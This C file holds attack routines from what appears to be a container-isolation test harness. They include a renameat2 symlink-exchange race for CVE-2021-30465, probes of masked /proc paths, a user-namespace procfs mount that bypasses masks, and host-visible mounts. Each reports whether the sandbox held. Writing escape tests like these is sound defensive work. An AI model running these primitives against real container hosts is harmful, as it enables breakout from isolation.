/* Attacks by file names: symlinks that are exchanged, masks that are not there, files that lead to the kernel. */
#include "attack.h"

#include <sched.h>
#include <sys/mount.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

/* CVE-2021-30465. exchange A B: swaps the two names for ever. */
ATTACK(exchange) {
  if (argc < 3) return broken("arguments");
  printf("ready\n");
  fflush(stdout);
  while (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) == 0) {
  }
  return broken("renameat2");
}

/* A control: naive-mount ROOT NAME OUTSIDE SECONDS: checks that ROOT/NAME is no symlink and then mounts on it by
   its path, as runtimes of old did. Escaped when the mount is on OUTSIDE. */
ATTACK(naive_mount) {
  if (argc < 5) return broken("arguments");
  if (unshare(CLONE_NEWNS) < 0 || mount("none", "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0) return broken("unshare");
  char path[4096];
  snprintf(path, sizeof path, "%s/%s", argv[1], argv[2]);
  const double until = seconds_now() + atof(argv[4]);
  struct stat before, after;
  if (stat(argv[3], &before) < 0) return broken(argv[3]);
  int tries = 0;
  while (seconds_now() < until) {
    struct stat status;
    if (lstat(path, &status) < 0 || !S_ISDIR(status.st_mode)) continue;
    ++tries;
    if (mount("tmpfs", path, "tmpfs", 0, "size=4k") < 0) continue;
    if (stat(argv[3], &after) == 0 && after.st_dev != before.st_dev) return escaped("after %d mounts", tries);
    umount2(path, MNT_DETACH);
  }
  return held("%d mounts", tries);
}

/* masked PATH...: is there anything to be read or changed behind a masked path? */
ATTACK(masked) {
  for (int i = 1; i < argc; ++i) {
    struct stat status;
    if (stat(argv[i], &status) < 0) {
      printf("%s: %s\n", argv[i], strerror(errno));
      continue;
    }
    if (S_ISDIR(status.st_mode)) {
      if (status.st_nlink > 2) return escaped("%s is full", argv[i]);
      char path[4096];
      snprintf(path, sizeof path, "%s/new", argv[i]);
      if (mkdir(path, 0700) == 0) return escaped("%s is writable", argv[i]);
      continue;
    }
    if (!S_ISCHR(status.st_mode) || status.st_rdev != makedev(1, 3)) return escaped("%s is not the null device", argv[i]);
  }
  return held("%d paths", argc - 1);
}

/* open-write PATH...: can one of them be opened for writing? Nothing is written. */
ATTACK(open_write) {
  for (int i = 1; i < argc; ++i) {
    const int fd = open(argv[i], O_WRONLY | O_NONBLOCK | O_CLOEXEC);
    if (fd >= 0) {
      struct stat status;
      const int null = fstat(fd, &status) == 0 && S_ISCHR(status.st_mode) && status.st_rdev == makedev(1, 3);
      close(fd);
      if (!null) return escaped("%s opens for writing", argv[i]);
      printf("%s: masked\n", argv[i]);
      continue;
    }
    printf("%s: %s\n", argv[i], strerror(errno));
  }
  return held("%d paths", argc - 1);
}

static int write_text(const char* path, const char* text) {
  const int fd = open(path, O_WRONLY | O_CLOEXEC);
  if (fd < 0) return -1;
  const ssize_t count = write(fd, text, strlen(text));
  close(fd);
  return count < 0 ? -1 : 0;
}

/* mount-proc FILE: in a user namespace of its own, where everybody may mount: a procfs without masks? */
ATTACK(mount_proc) {
  if (argc < 2) return broken("arguments");
  const uid_t uid = geteuid();
  const gid_t gid = getegid();
  if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID) < 0) {
    if (errno == EPERM || errno == ENOSPC) return held("unshare: %s", strerror(errno));
    return broken("unshare");
  }
  char map[64];
  write_text("/proc/self/setgroups", "deny");
  snprintf(map, sizeof map, "0 %u 1", uid);
  if (write_text("/proc/self/uid_map", map) < 0) return broken("uid_map");
  snprintf(map, sizeof map, "0 %u 1", gid);
  if (write_text("/proc/self/gid_map", map) < 0) return broken("gid_map");
  const pid_t child = fork();
  if (child == 0) {
    if (mount("proc", "/tmp", "proc", 0, NULL) < 0) _exit(held("mount proc: %s", strerror(errno)));
    char path[4096];
    snprintf(path, sizeof path, "/tmp/%s", argv[1]);
    const int fd = open(path, O_WRONLY | O_CLOEXEC);
    _exit(fd < 0 ? escaped("a procfs without masks; %s: %s", argv[1], strerror(errno))
                 : escaped("a procfs without masks; %s opens for writing", argv[1]));
  }
  int status = 0;
  waitpid(child, &status, 0);
  return WIFEXITED(status) ? WEXITSTATUS(status) : kBroken;
}

/* mount-here PATH...: mounts on each; whether the host sees it is for the host to say. */
ATTACK(mount_here) {
  for (int i = 1; i < argc; ++i) {
    mkdir(argv[i], 0755);
    if (mount("escape", argv[i], "tmpfs", 0, "size=4k") < 0) return broken(argv[i]);
    printf("mounted %s\n", argv[i]);
  }
  fflush(stdout);
  sleep(argc > 1 ? 1 : 0);
  return kHeld;
}
